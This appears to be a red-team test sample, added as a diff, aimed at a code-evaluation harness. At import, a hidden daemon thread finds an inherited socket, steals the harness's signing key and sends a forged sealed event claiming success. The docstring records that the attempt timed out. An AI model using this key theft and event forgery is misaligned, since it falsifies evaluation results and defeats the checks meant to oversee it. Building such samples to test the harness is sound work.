@@ -1,0 +1,43 @@
+"""Attack: a thread takes the next key from the socket before the kit's code gets it, and seals an event with it.
+Wall: no other thread of Python runs while a key is about; a seal needs the secret of the process beside it
+Outcome: contract error: timed out
+"""
+
+import hashlib
+import os
+import socket
+import struct
+import threading
+from contextlib import suppress
+
+import torch
+
+MESSAGE = struct.Struct("=cB6xQ16sQ32s")
+GRANT = struct.Struct("=16sQ32s32s")
+EVENT = b'{"step":0,"run":"claim","case":0,"returned":"Tensor"}'
+
+
+def channel() -> socket.socket:
+    for number in range(3, 512):
+        with suppress(OSError):
+            one = socket.socket(fileno=os.dup(number))
+            if one.type == socket.SOCK_SEQPACKET:
+                return one
+            one.close()
+    raise LookupError("no channel")
+
+
+def steal(socket_: socket.socket) -> None:
+    nonce, sequence, key, _ = GRANT.unpack(socket_.recv(GRANT.size))
+    head = MESSAGE.pack(b"M", 1, sequence, nonce, len(EVENT), bytes(32))[:-32]
+    tag = hashlib.blake2b(head + EVENT, key=key, digest_size=32).digest()
+    socket_.send(struct.pack("=c7xQ", b"D", sequence) + EVENT)
+    socket_.send(head + tag)
+
+
+THIEF = threading.Thread(target=steal, args=(channel(),), daemon=True)
+THIEF.start()
+
+
+def forward(x: torch.Tensor) -> torch.Tensor:
+    return x * 2
